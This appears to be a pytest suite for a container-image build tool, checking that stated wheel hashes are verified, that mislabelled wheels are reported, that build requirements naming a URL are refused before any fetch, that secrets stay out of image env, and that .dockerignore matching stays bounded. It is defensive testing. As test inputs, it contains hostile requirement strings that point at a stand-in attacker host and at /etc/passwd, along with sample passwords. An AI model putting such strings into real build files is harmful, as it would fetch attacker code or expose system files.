"""What a project states is verified before anything acts on it (issue 49): a wheel's stated `#sha256=` is checked,
never replaced by the file's own; a project wheel that is no wheel of its name is said so, not "the cell's pins
conflict"; a source archive's build requirement naming a URL is refused before the host's resolver could fetch it;
`[image] env` takes no secret; `.dockerignore` is bounded and matched in polynomial time."""

from __future__ import annotations

import hashlib
import time

import pytest

from imagekit.effects import process
from imagekit.errors import CheckFailed, UsageError
from imagekit.image import code_layer, imageconfig
from imagekit.locking import source_builds as sb
from imagekit.locking.lockfile import Lock
from imagekit.locking.resolution import LockSettings, request
from imagekit.model import Cell
from imagekit.services.wheels import direct_sources, wheel_builds
from tests.wheelfactory import build_wheel

WHEEL = "deepspeed-0.19.8-py3-none-any.whl"


def _prepare(data, project, reference: str):  # type: ignore[no-untyped-def]
    cell = Cell("12.4", "2.5.1", "4.48.2", "3.11", packages=(reference,))
    return direct_sources.prepare(request(cell, LockSettings(), data), project, None, lambda _: None)


@pytest.fixture
def project(tmp_path, monkeypatch):
    monkeypatch.setenv("IMAGEKIT_CACHE", str(tmp_path / "cache"))
    root = tmp_path / "project"
    (root / "wheels").mkdir(parents=True)
    return root


def test_a_stated_hash_is_verified_never_replaced(data, project):
    # Before: `deepspeed @ file:wheels/...whl#sha256=<wrong>` was locked with the file's own hash, silently.
    wheel = build_wheel(project / "wheels", "deepspeed", "0.19.8")
    sha = hashlib.sha256(wheel.read_bytes()).hexdigest()
    assert _prepare(data, project, f"deepspeed @ file:wheels/{WHEEL}#sha256={sha}")  # the stated hash: locked
    with pytest.raises(CheckFailed, match=f"has sha256 {sha}, but the requirement states #sha256={'0' * 64}"):
        _prepare(data, project, f"deepspeed @ file:wheels/{WHEEL}#sha256={'0' * 64}")


@pytest.mark.parametrize(
    ("contents", "said"),
    [
        ("not a zip", "it is not a readable zip"),
        ("no metadata", "it holds no .dist-info/METADATA"),
        ("another name", "its metadata names 'other'"),
        ("another version", "its metadata says version '9.9'"),
    ],
)
def test_a_project_wheel_that_is_no_wheel_of_its_name_is_said_so(data, project, contents, said):
    # Before: handed to uv as it was: "no resolution ... the cell's pins conflict" (exit 1).
    import io
    import zipfile

    path = project / "wheels" / WHEEL
    if contents == "not a zip":
        path.write_bytes(b"not a zip")
    else:
        out = io.BytesIO()
        name, version = {"another name": ("other", "0.19.8"), "another version": ("deepspeed", "9.9")}.get(
            contents, ("deepspeed", "0.19.8")
        )
        with zipfile.ZipFile(out, "w") as zf:
            zf.writestr("deepspeed/__init__.py", "")
            if contents != "no metadata":
                zf.writestr(f"{name}-{version}.dist-info/METADATA", f"Name: {name}\nVersion: {version}\n")
        path.write_bytes(out.getvalue())
    with pytest.raises(UsageError, match=f"is not a wheel of deepspeed 0.19.8: {said}"):
        _prepare(data, project, f"deepspeed @ file:wheels/{WHEEL}")


def test_uvs_word_for_an_unreadable_wheel_is_not_a_pin_conflict(data):
    from imagekit.effects import resolver

    stderr = (
        "error: Failed to read `x @ file:///tmp/w/x-1.0-py3-none-any.whl`\n"
        "  cause: Failed to read metadata: /tmp/w/x-1.0-py3-none-any.whl\n  cause: unable to locate the end of"
    )
    err = resolver._fail(request(Cell("12.4", "2.5.1", "4.48.2", "3.11"), LockSettings(), data), stderr)
    assert isinstance(err, CheckFailed) and "uv could not read x @ file:///tmp/w/x-1.0-py3-none-any.whl" in err.message
    assert "pins conflict" not in str(err.hint) and "NAME-VERSION.dist-info/METADATA" in str(err.hint)


@pytest.mark.parametrize(
    "requirement",
    [
        "evil @ https://attacker.example/evil-1.0.tar.gz",
        "evil @ file:///etc/passwd",
        "setuptools===60.0x",
        "setuptools==" + "9" * 5000,
        "-r /etc/passwd",
    ],
)
def test_a_build_requirement_naming_a_url_is_refused_before_anything_is_fetched(data, requirement, monkeypatch):
    # Before: the archive's `[build-system] requires` went to the host's uv (network on), which fetched the URL;
    # the lock refused what came back, after the fact.
    def no_process(*args, **kwargs):  # type: ignore[no-untyped-def]
        raise AssertionError("the resolver ran")

    monkeypatch.setattr(process, "run", no_process)
    pyproject = f'[build-system]\nrequires = ["setuptools", {requirement!r}]\nbuild-backend = "setuptools.build_meta"\n'
    with pytest.raises(CheckFailed, match="its build requirement"):
        sb.build_requires(pyproject.replace("'", '"'))
    req = request(Cell("12.4", "2.5.1", "4.48.2", "3.11", packages=("x",)), LockSettings(), data)
    with pytest.raises(CheckFailed, match="nothing was fetched"):
        wheel_builds.resolve_build_requires([requirement], Lock((), (), {}).torch, req, "x")


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("HFTOKEN", "x"),
        ("DB_PWD", "x"),
        ("SSH_PRIVKEY", "x"),
        ("MY_SECRETS", "x"),
        ("DATABASE_URL", "postgres://app:hunter2@db:5432/app"),
        ("REDIS", "default:hunter2@redis:6379"),
    ],
)
def test_image_env_refuses_secret_names_and_passwords_in_urls(name, value):
    # Before: HFTOKEN, DB_PWD, SSH_PRIVKEY and a URL's password went into the published image's config.
    assert imageconfig.user_env_problem(name, value) is not None


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("TOKENIZERS_PARALLELISM", "false"),
        ("WANDB_PROJECT", "sft"),
        ("MLFLOW_URL", "https://mlflow.example/api"),
        ("GIT_AUTHOR_EMAIL", "me@example.org"),
        ("PYTORCH_CUDA_ALLOC_CONF", "expandable_segments:True"),
    ],
)
def test_image_env_keeps_what_is_no_secret(name, value):
    assert imageconfig.user_env_problem(name, value) is None


def test_dockerignore_patterns_are_bounded():
    with pytest.raises(UsageError, match="patterns"):
        code_layer.dockerignore_lines("a\n" * (code_layer.MAX_PATTERNS + 1))
    with pytest.raises(UsageError, match="a pattern of"):
        code_layer.dockerignore_lines("a" * (code_layer.MAX_PATTERN + 1))


def test_dockerignore_matching_is_polynomial_in_the_pattern_and_the_path():
    # Before: `**/**/**/.../x` against a 60-deep path tried every way of sharing the folders out (exponential).
    pattern = "/".join(["**"] * 12 + ["a", "**"] * 6 + ["nomatch"])
    path = "/".join(["a"] * 60)
    began = time.monotonic()
    assert not code_layer.excluded(path, (pattern,))
    assert time.monotonic() - began < 2
    assert code_layer.excluded("src/a/b/c.ckpt", ("**/*.ckpt",)) and code_layer.excluded("data/x", ("data",))
    assert not code_layer.excluded("data/keep", ("data", "!data/keep"))
